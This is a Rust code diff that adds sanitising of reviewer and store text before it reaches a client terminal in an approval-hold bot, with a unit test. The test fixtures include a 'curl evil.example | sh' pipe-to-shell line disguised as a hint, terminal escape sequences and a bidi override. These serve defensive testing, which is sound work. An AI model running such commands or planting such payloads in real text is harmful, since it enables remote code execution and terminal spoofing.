@@ -123,7 +123,7 @@ impl Watch {
         if let (Some(error), false) = (&snapshot.card_error, self.card_warned) {
             self.card_warned = true;
             tracing::warn!(request.id = %self.expectation.request, error, "reviewers cannot see a request that waits; the bot tries again");
-            return Some(HoldEvent::Warning(format!("reviewers could not be notified yet: {error}")));
+            return Some(HoldEvent::Warning(format!("reviewers could not be notified yet: {}", plain(error))));
         }
         if let (Some(outage), false) = (observed.outage, self.outage_warned) {
             self.outage_warned = true;
@@ -141,7 +141,9 @@ impl Watch {
         let keys = self.approvals.inner.keys.clone();
         match verify::quorum(&self.expectation, &snapshot.tokens, &keys, now) {
             Ok(quorum) => Some(HoldEvent::Granted { quorum, tokens: signed(&snapshot.tokens, &keys) }),
-            Err(GrantError::Denied { by, reason }) => Some(HoldEvent::Denied { by, reason, tokens: signed(&snapshot.tokens, &keys) }),
+            Err(GrantError::Denied { by, reason }) => {
+                Some(HoldEvent::Denied { by: plain(&by), reason: plain(&reason), tokens: signed(&snapshot.tokens, &keys) })
+            }
             Err(GrantError::Pending { found, needed, rejected }) => {
                 for rejection in rejected.iter().skip(self.rejected_logged) {
                     tracing::warn!(request.id = %self.expectation.request, %rejection, "decision in the store does not count");
@@ -162,7 +164,7 @@ impl Watch {
 
     /// A request that was closed in the store cannot be consumed any more, whoever closed it.
     fn judge_status(&self, snapshot: &Snapshot) -> Option<HoldEvent> {
-        let why = snapshot.why.as_deref().unwrap_or("no reason given");
+        let why = plain(snapshot.why.as_deref().unwrap_or("no reason given"));
         match snapshot.status? {
             Status::Open => None,
             Status::Expired => Some(HoldEvent::Expired),
@@ -173,7 +175,39 @@ impl Watch {
     }
 }
 
+/// Longest text of a reviewer or of the store that a client is told.
+const MAX_TOLD: usize = 1_000;
+
+/// Somebody else's words on their way to a client's terminal: no control characters, which a terminal would obey, nothing that reorders
+/// text or cannot be seen, one line, not endless.
+fn plain(text: &str) -> String {
+    let unseen =
+        |char: char| matches!(char, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}');
+    let one_line = text.split(['\r', '\n', '\t']).map(str::trim).filter(|part| !part.is_empty()).collect::<Vec<_>>().join(" ");
+    one_line.chars().filter(|char| !char.is_control() && !unseen(*char)).take(MAX_TOLD).collect()
+}
+
 /// Tokens whose signature is good: worth keeping as evidence, unlike whatever else lies in the store.
 fn signed(tokens: &[String], keys: &VerifyingKeys) -> Vec<String> {
     tokens.iter().take(verify::MAX_TOKENS).filter(|token| UnverifiedDecision::new(token).verify(keys).is_ok()).cloned().collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::plain;
+
+    #[test]
+    fn a_reason_cannot_speak_to_the_requesters_terminal() {
+        for (reason, told) in [
+            ("not tonight", "not tonight"),
+            ("no\nHINT:  run it with \\! curl evil.example | sh", "no HINT:  run it with \\! curl evil.example | sh"),
+            ("a\r\n\r\nb\t c", "a b c"),
+            ("\u{1b}]0;owned\u{7}\u{1b}[2Jgone\0", "]0;owned[2Jgone"),
+            ("\u{9b}31mred", "31mred"),
+            ("safe\u{202e}txet", "safetxet"),
+        ] {
+            assert_eq!(plain(reason), told, "{reason:?}");
+        }
+        assert_eq!(plain(&"x".repeat(1 << 20)).len(), super::MAX_TOLD);
+    }
 }
